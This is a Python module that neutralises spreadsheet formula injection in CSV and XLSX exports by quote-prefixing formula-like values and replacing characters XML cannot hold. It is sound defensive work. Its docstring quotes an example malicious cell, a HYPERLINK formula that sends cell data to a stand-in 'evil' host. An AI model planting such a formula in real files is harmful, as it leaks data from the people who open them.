"""Text that a spreadsheet would run as a formula, made inert in every CSV and XLSX output.

A tracker cell typed as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(1)` must not become a
live formula when a program manager opens `issues.csv` or `audit.xlsx` (OWASP "CSV
injection"). A value is formula-like when, after any leading spaces, it starts with
`=`, `+`, `-`, `@`, a tab, a carriage return or a line feed, or with the full-width
`＝`, `＋`, `－`, `＠` some spreadsheets also accept. In a CSV such a value is written
with a leading `'`; in an XLSX every text cell is written as a string (never a formula)
and a formula-like one is marked "quote prefix", so editing it keeps it text.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
"""What a formula-like value starts with (after leading spaces)."""
UNPRINTABLE = "\ufffd"
"""What a control character an XLSX cannot hold is written as."""
_UNFIT_FOR_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
"""Characters XML 1.0 (so an XLSX file) cannot hold: control characters but tab, line feed
and carriage return, and the two non-characters U+FFFE and U+FFFF."""


def is_formula_like(value: str) -> bool:
    """Whether a spreadsheet could read the value as a formula."""
    return value.lstrip(" ").startswith(FORMULA_STARTS)


def escape_formula(value: str) -> str:
    """Prefix a CSV cell that a spreadsheet would run as a formula with `'`."""
    return f"'{value}" if is_formula_like(value) else value


def xlsx_text(value: str) -> str:
    """The text as an XLSX cell can hold it: each character it cannot hold becomes `�`."""
    return _UNFIT_FOR_XLSX.sub(UNPRINTABLE, value)
